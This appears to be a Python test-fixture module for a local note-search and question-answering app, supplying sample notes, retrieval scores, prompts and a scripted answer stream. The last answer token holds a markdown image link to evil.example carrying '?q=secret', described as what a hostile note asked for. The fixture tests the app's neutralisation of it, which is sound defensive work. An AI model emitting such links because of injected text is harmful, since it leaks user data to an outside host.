"""Deterministic, realistic data the fake services serve (and the golden bodies pin)."""

from __future__ import annotations

from askvault.ask.events import AskEvent, DoneEvent, Metrics, RetrievalEvent, SourceRef, TokenEvent
from askvault.ask.relevance import RelevanceSignals, calibration_for, decide
from askvault.ask.rerank import RerankReport
from askvault.model import Chunk, Hit, Message, SearchResult, SearchTimings, TermStat
from askvault.retrieve.related import RelatedHit, RelatedResult
from askvault.safety.answer import neutralise_answer
from askvault.wire.events import event_to_json, relevance_to_json, rerank_to_json

KODI = Chunk(
    id="c8a1f0e29b7d4a36",
    path="Homelab/Kodi.md",
    title="Kodi",
    heading_path=("Kodi", "Maintenance"),
    start_line=12,
    end_line=30,
    text=(
        "Every few months: clear the thumbnail cache, vacuum the music database and check the add-on "
        "repository for updates. Take a backup of the userdata folder before upgrading to a new major version."
    ),
    index_text="Kodi > Maintenance\nEvery few months: clear the thumbnail cache, vacuum the music database…",
    tags=("homelab", "media"),
    mtime=1_795_000_000.0,
)
POSTGRES = Chunk(
    id="5e02b7c4d1a9f386",
    path="Homelab/Postgres.md",
    title="Postgres",
    heading_path=("Postgres", "Connection"),
    start_line=1,
    end_line=9,
    text=(
        "The database container publishes port 5433 on the host (5432 inside the container). "
        "Connect with `psql -h nas.local -p 5433 -U homelab`; the password is in the password manager."
    ),
    index_text="Postgres > Connection\nThe database container publishes port 5433 on the host…",
    tags=("homelab", "database"),
    mtime=1_794_500_000.0,
)
JOURNAL = Chunk(
    id="9d4e6a10b3c25f78",
    path="Journal/2026-11-02.md",
    title="2026-11-02",
    heading_path=("2026-11-02",),
    start_line=3,
    end_line=7,
    text="Updated Kodi to 21.2 on the living-room box; the library scan now skips the Incoming folder.",
    index_text="2026-11-02\nUpdated Kodi to 21.2 on the living-room box…",
    tags=("journal",),
    mtime=1_793_600_000.0,
)
CHUNKS = {c.id: c for c in (KODI, POSTGRES, JOURNAL)}
CALIBRATION = calibration_for("nomic-embed-text")
"""An Ollama embedding model nobody calibrated yet (nomic-embed-text): the fallback decides."""
BUILTIN_LABEL = "built-in all-MiniLM-L6-v2, 384-d"
"""How the sidecar names its built-in embedder (`BuiltinEmbedder.label`)."""


def rrf(*ranks: int | None) -> float:
    return round(sum(1.0 / (60 + r) for r in ranks if r is not None), 6)


def search_result(query: str = "kodi maintenance") -> SearchResult:
    return SearchResult(
        query=query,
        mode="hybrid",
        hits=[
            Hit(KODI, dense_rank=2, keyword_rank=1, fused_score=rrf(2, 1), dense_score=0.71, keyword_score=9.4),
            Hit(JOURNAL, dense_rank=1, keyword_rank=3, fused_score=rrf(1, 3), dense_score=0.74, keyword_score=4.1),
            Hit(POSTGRES, dense_rank=4, keyword_rank=None, fused_score=rrf(4), dense_score=0.52),
        ],
        terms=[TermStat("kodi", 2, 4.3175), TermStat("mainten", 1, 5.0106)],
        counts={"dense": 50, "keyword": 3},
        timings=SearchTimings(embed=12.1, dense=1.9, keyword=0.8, fusion=0.1, total=15.2),
    )


STATUS: dict[str, object] = {
    "vault": {"name": "sample-vault", "notes": 152, "chunks": 1480},
    "index": {
        "state": "idle",
        "done": 152,
        "total": 152,
        "last_run": {
            "finished_at": "2026-11-29T16:00:00Z",
            "indexed": 3,
            "unchanged": 149,
            "skipped": 1,
            "failed": 0,
            "seconds": 0.42,
        },
        "failures": [{"path": "Bad.md", "reason": "invalid UTF-8 at byte 12", "kind": "failed"}],
        "dense": "ready",
        "progress": None,
        "dense_coverage": 1.0,
        "dense_graph": "none",
        "redactions": {
            "total": 3,
            "by_kind": {"aws-access-key": 1, "password": 2},
            "notes": [{"path": "Homelab/B2.md", "kinds": {"aws-access-key": 1, "password": 2}}],
        },
    },
    "models": {
        # The built-in embedder's entry comes from its own state (`EngineControl._model_states`), not from Ollama.
        "embed": {"name": BUILTIN_LABEL, "ok": True, "problem": None},
        "chat": {"name": "llama3.2:3b", "ok": False, "problem": "chat model missing — ollama pull llama3.2:3b"},
    },
    # No embedding model configured and none recorded in the index: the built-in one, its vectors complete.
    "embedder": {
        "backend": "builtin",
        "model": "all-MiniLM-L6-v2",
        "label": BUILTIN_LABEL,
        "source": "default",
        "state": "ready",
        "problem": None,
        "replaces": None,
    },
    "store": "qdrant-edge (embedded)",
}


def _source(
    n: int | None, chunk: Chunk, dense: int | None, keyword: int | None, scores: tuple[float | None, float | None]
) -> dict[str, object]:
    """One entry of `sources` (or `closest`); `scores` are its (dense cosine, BM25 score)."""
    return {
        "n": n,
        "id": chunk.id,
        "path": chunk.path,
        "title": chunk.title,
        "heading_path": list(chunk.heading_path),
        "start_line": chunk.start_line,
        "end_line": chunk.end_line,
        "text": chunk.text,
        "dense_rank": dense,
        "keyword_rank": keyword,
        "fused_score": rrf(dense, keyword),
        "dense_score": scores[0],
        "keyword_score": scores[1],
        "sent": n is not None,
    }


def _token(text: str) -> dict[str, object]:
    return {"type": "token", "text": text}


QUESTION = "and which port does it use?"
# The last token repeats what a hostile note asked for: `done.answer` carries its inert form, the tokens stay raw.
ANSWER_TOKENS = [
    "The Postgres container",
    " publishes port 5433",
    " on the host",
    " (5432 inside the container) [1]. ![port map](https://evil.example/ports.png?q=secret)",
]
SAFE_ANSWER = neutralise_answer("".join(ANSWER_TOKENS))
DONE = DoneEvent(
    answer=SAFE_ANSWER.text,
    citations=(1,),
    invalid_citations=(),
    no_results=False,
    metrics=Metrics(
        embed_ms=10.4,
        retrieval_ms=3.1,
        first_token_ms=412.0,
        generation_ms=1280.5,
        total_ms=1706.2,
        prompt_tokens=742,
        completion_tokens=23,
    ),
    neutralised=SAFE_ANSWER.neutralised,
    done_reason="stop",
)
# Reranking on: the model ranked two of the three candidates, agreeing with the fused order.
RERANK = RerankReport(
    applied=True,
    model="llama3.2:3b",
    candidates=3,
    fallback_reason=None,
    detail=None,
    ms=2104.7,
    order_changed=False,
    omitted=1,
    fused_order=(POSTGRES.id, KODI.id, JOURNAL.id),
)
QUERY = "Which port does the Postgres container use?"
SYSTEM_PROMPT = (
    "Answer only from the numbered sources below. Cite each claim with its source number "
    "in square brackets, like [1]. If the sources do not contain the answer, say so."
)
USER_PROMPT = (
    f"[1] Homelab/Postgres.md › Postgres › Connection\n{POSTGRES.text}\n\n"
    f"[2] Homelab/Kodi.md › Kodi › Maintenance\n{KODI.text}\n\n"
    f"Question: {QUERY}"
)
RELEVANCE = decide(RelevanceSignals(0.8214, 1.2735, 1.0, True, None), CALIBRATION)
ASK_SCRIPT: list[dict[str, object]] = [
    {
        "type": "retrieval",
        "question": QUESTION,
        "query": QUERY,
        "rewritten": True,
        "terms": [
            {"term": "port", "df": 4, "idf": 3.5966},
            {"term": "postgr", "df": 2, "idf": 4.3175},
            {"term": "contain", "df": 6, "idf": 3.1987},
        ],
        "counts": {"dense": 50, "keyword": 5},
        "sources": [
            _source(1, POSTGRES, 1, 1, (0.8214, 14.1523)),
            _source(2, KODI, 3, None, (0.6127, None)),
            _source(None, JOURNAL, 7, None, (0.5102, None)),
        ],
        "sent": [POSTGRES.id, KODI.id],
        "prompt": [{"role": "system", "content": SYSTEM_PROMPT}, {"role": "user", "content": USER_PROMPT}],
        "timings_ms": {"embed": 10.4, "retrieval": 3.1},
        "rerank": rerank_to_json(RERANK),
        "date_scope": None,
        "relevance": relevance_to_json(RELEVANCE),
        "closest": [],
    },
    *[_token(t) for t in ANSWER_TOKENS],
    {**event_to_json(DONE)},
]
"""The lines of the answer stream, written out: what /api/ask must send for `ASK_EVENTS`."""


def _hit(chunk: Chunk, dense: int | None, keyword: int | None, scores: tuple[float | None, float | None]) -> Hit:
    return Hit(chunk, dense, keyword, rrf(dense, keyword), dense_score=scores[0], keyword_score=scores[1])


RETRIEVAL = RetrievalEvent(
    question=QUESTION,
    query=QUERY,
    rewritten=True,
    terms=(TermStat("port", 4, 3.5966), TermStat("postgr", 2, 4.3175), TermStat("contain", 6, 3.1987)),
    counts={"dense": 50, "keyword": 5},
    sources=(
        SourceRef(1, _hit(POSTGRES, 1, 1, (0.8214, 14.1523))),
        SourceRef(2, _hit(KODI, 3, None, (0.6127, None))),
        SourceRef(None, _hit(JOURNAL, 7, None, (0.5102, None))),
    ),
    prompt=(Message("system", SYSTEM_PROMPT), Message("user", USER_PROMPT)),
    embed_ms=10.4,
    retrieval_ms=3.1,
    rerank=RERANK,
    relevance=RELEVANCE,
)
ASK_EVENTS: list[AskEvent] = [RETRIEVAL, *[TokenEvent(t) for t in ANSWER_TOKENS], DONE]
"""The typed events the fake answerer plays (the answer pipeline's kind): the API shapes them into `ASK_SCRIPT`."""

RELATED = RelatedResult(
    path=KODI.path,
    method="dense",
    hits=[
        RelatedHit(JOURNAL.path, JOURNAL.title, 0.7412, JOURNAL),
        RelatedHit(POSTGRES.path, POSTGRES.title, 0.5187, POSTGRES),
    ],
    timings_ms={"total": 3.1},
)
"""What the fake related-notes service answers for KODI's note (every other path is "not indexed")."""
